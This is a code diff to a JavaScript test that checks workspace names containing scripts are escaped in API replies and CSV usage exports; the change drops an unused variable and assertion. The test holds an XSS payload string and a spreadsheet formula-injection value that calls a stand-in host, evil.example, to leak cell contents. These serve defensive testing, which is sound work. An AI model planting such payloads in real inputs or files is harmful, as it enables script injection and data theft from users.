@@ -260,7 +260,7 @@ t.test('ten thousand rows of the ledger are read in pages, each once, newest fir
 )
 
 t.test('names that are scripts are only names, in every reply and file', (t) =>
-  withAdmin(t, {}, async ({ admin, workspaceId, accounts }) => {
+  withAdmin(t, {}, async ({ admin, accounts }) => {
     const name = `"><script>alert(1)</script><img src=x onerror=alert(1)>'--`
     const { id } = await admin.done<Workspace>('POST', '/workspaces', { name })
     const formula = '=HYPERLINK("http://evil.example?"&A1,"x")'
@@ -290,6 +290,5 @@ t.test('names that are scripts are only names, in every reply and file', (t) =>
       const { text: lines } = await admin.ask('GET', '/usage?by=key&format=csv')
       t.ok(lines.includes(`,${keyId},${text},`), lines)
     }
-    t.ok(workspaceId)
   }),
 )
